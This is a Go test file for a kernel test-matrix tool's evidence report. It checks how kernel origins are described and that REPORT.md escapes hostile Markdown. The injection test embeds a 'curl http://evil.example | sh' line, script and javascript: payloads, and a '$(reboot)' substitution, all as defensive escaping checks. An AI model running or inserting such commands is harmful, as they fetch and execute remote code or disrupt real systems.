package evidence

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"
	"github.com/yuin/goldmark"
	"github.com/yuin/goldmark/ast"
	"github.com/yuin/goldmark/extension"
	gmtext "github.com/yuin/goldmark/text"

	"github.com/runmatrix/runmatrix/kernels"
	"github.com/runmatrix/runmatrix/matrix/results"
	"github.com/runmatrix/runmatrix/testcases/outcome"
)

// TestOriginNamesItsDistribution says where a kernel came from in the
// distribution's own words.
func TestOriginNamesItsDistribution(t *testing.T) {
	for _, tc := range []struct {
		o    kernels.Origin
		want string
	}{
		{kernels.Origin{Package: "linux-image-6.1.0-57-amd64-unsigned", PackageVersion: "6.1.192-3", DebSHA256: "ab", Suite: "bookworm-security", SHA256: "cd"},
			"Debian package `linux-image-6.1.0-57-amd64-unsigned` version `6.1.192-3` (deb sha256 `ab`), image sha256 `cd`"},
		{kernels.Origin{Package: "linux-image-6.8.0-151-generic", PackageVersion: "6.8.0-151.151", DebSHA256: "ab", Suite: "Ubuntu 24.04 noble-security", SHA256: "cd"},
			"Ubuntu package (Ubuntu 24.04 noble-security) `linux-image-6.8.0-151-generic`"},
		{kernels.Origin{Package: "kernel", PackageVersion: "2.6.32-504.el6", PackageSHA256: "ef", Suite: "CentOS 6.6", SHA256: "cd", URL: "https://vault.centos.org/6.6/os/x86_64/Packages/kernel-2.6.32-504.el6.x86_64.rpm"},
			"CentOS 6.6 package `kernel` version `2.6.32-504.el6` (package sha256 `ef`), image sha256 `cd`, from <https://vault.centos.org/"},
	} {
		require.Contains(t, origin(results.Kernel{Origin: tc.o}), tc.want)
	}
}

// TestReportKeepsCellTextInert writes REPORT.md from cells whose text (the
// console, the summary, the origin, uname -v) is Markdown that would end a
// code block or span and add a link, an image or HTML: parsed, the report
// has none of those but the autolinks it makes itself, and each hostile
// text is still shown, inside code.
func TestReportKeepsCellTextInert(t *testing.T) {
	evil := "``` ![img](http://evil.example/x.png) [click](http://evil.example/) <script>alert(1)</script>\n```\n# Run: curl http://evil.example | sh"
	cell := func(kernel, summary string) results.Result {
		return results.Result{
			Key: results.Key{Case: "epipe.write-after-close", Profile: "default", Kernel: kernel},
			KernelInfo: results.Kernel{Ref: kernel, Release: "6.1.0", Arch: "x86_64", UnameVersion: "#1 `x` ![i](http://evil.example/)",
				Origin: kernels.Origin{Package: "p`kg", PackageVersion: "1]", PackageSHA256: "ab", Suite: "[Suite](http://evil.example/)", URL: "javascript:alert(1)"}},
			Outcome: outcome.Outcome{Status: outcome.OK, Summary: summary, Steps: []outcome.Step{{Label: "write", Call: "write", Fd: "c", Key: true,
				Args: []outcome.Arg{{Name: "buf", Value: `"x"`}, {Name: "len", Value: "1"}}}}},
			Console: strings.Split(evil, "\n"),
			Reps:    1, Agree: 1,
		}
	}
	res := &results.Results{Format: results.Format, Cells: []results.Result{
		cell("debian:6.1", "write=1 "+evil), cell("debian:6.12", "write=-1 EPIPE | ![x](http://evil.example/)"),
	}}
	dir := t.TempDir()
	_, err := Write(dir, res, Options{Cases: []string{"epipe.write-after-close"}, Rerun: []string{"runmatrix", "evidence", "--from", "$(reboot)`x`"}})
	require.NoError(t, err)
	md, err := os.ReadFile(filepath.Join(dir, "REPORT.md"))
	require.NoError(t, err)
	doc := goldmark.New(goldmark.WithExtensions(extension.GFM)).Parser().Parse(gmtext.NewReader(md))
	var code strings.Builder
	require.NoError(t, ast.Walk(doc, func(n ast.Node, entering bool) (ast.WalkStatus, error) {
		if !entering {
			return ast.WalkContinue, nil
		}
		switch n := n.(type) {
		case *ast.Image, *ast.Link, *ast.RawHTML, *ast.HTMLBlock:
			return ast.WalkStop, fmt.Errorf("REPORT.md has a %s: %q", n.Kind(), n.Text(md))
		case *ast.AutoLink:
			return ast.WalkStop, fmt.Errorf("REPORT.md links %q", n.URL(md))
		case *ast.Heading:
			require.NotContains(t, string(n.Text(md)), "curl", "a console line became a heading")
		case *ast.CodeSpan:
			code.Write(n.Text(md))
		case *ast.FencedCodeBlock:
			for i := 0; i < n.Lines().Len(); i++ {
				seg := n.Lines().At(i)
				code.Write(seg.Value(md))
			}
		}
		return ast.WalkContinue, nil
	}))
	for _, s := range []string{"# Run: curl http://evil.example | sh", "![img](http://evil.example/x.png)", "javascript:alert(1)", "'$(reboot)`x`'"} {
		require.Contains(t, code.String(), s, "shown as code")
	}
}
